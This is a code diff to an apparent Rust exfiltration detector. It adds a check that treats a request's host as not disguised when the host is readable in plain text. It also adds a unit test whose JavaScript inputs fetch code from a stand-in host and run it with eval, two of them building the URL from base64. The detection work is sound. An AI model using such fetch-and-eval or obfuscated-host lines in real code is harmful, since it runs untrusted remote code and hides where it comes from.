@@ -56,6 +56,17 @@ impl Extractor<'_> {
         self.carries(request, "").iter().any(is_stolen)
     }
 
+    /// Whether a host stands in the code as it is, whatever had to be computed to tell the rest of the address.
+    fn is_in_plain_sight(&self, url: &Value, host: &str) -> bool {
+        match url {
+            Value::Text(text) => {
+                text.places.iter().any(|(_, place)| self.written(*place).to_ascii_lowercase().contains(host))
+            }
+            Value::Concat(parts) => parts.iter().any(|part| self.is_in_plain_sight(part, host)),
+            _ => false,
+        }
+    }
+
     /// What is sensitive among what a request carries to a host.
     ///
     /// Of several hosts that are not told apart, each is taken to get the secrets that are its own, as from a table that
@@ -95,6 +106,7 @@ impl Extractor<'_> {
             return;
         }
         let Some(destination) = network::destination(&request.url) else { return };
+        let disguise = disguise.filter(|_| !self.is_in_plain_sight(&request.url_value, &destination.value));
         let account = network::split_url(&request.url)
             .and_then(|(host, path)| self.tables.accounts.account(&host, &path))
             .map(|account| cropped(&account, LONGEST_URL));
@@ -184,4 +196,27 @@ pub(super) fn disguise_of(value: &Value) -> Option<String> {
 /// Whether something is nobody's business but of those whose it is.
 fn is_stolen(carried: &Carried) -> bool {
     is_private(carried.class) && !carried.is_at_home
+}
+
+#[cfg(test)]
+mod tests {
+    use molehunt_model::Behaviour;
+
+    use crate::testing::extracted;
+
+    #[test]
+    fn a_host_that_anybody_can_read_is_not_hidden() {
+        for (code, is_hidden) in [
+            ("['a'].map((n) => fetch('https://code.example/' + n).then((r) => eval(r.text())))", false),
+            ("fetch(atob('aHR0cHM6Ly8=') + 'code.example/a')", false),
+            ("fetch(atob('aHR0cHM6Ly9jb2RlLmV4YW1wbGUv') + 'a')", true),
+        ] {
+            let facts = extracted(code).facts;
+            let sent = facts.iter().find_map(|fact| match &fact.behaviour {
+                Behaviour::SendData(sent) => Some(sent),
+                _ => None,
+            });
+            assert_eq!(sent.map(|sent| sent.disguise.is_some()), Some(is_hidden), "{code}");
+        }
+    }
 }
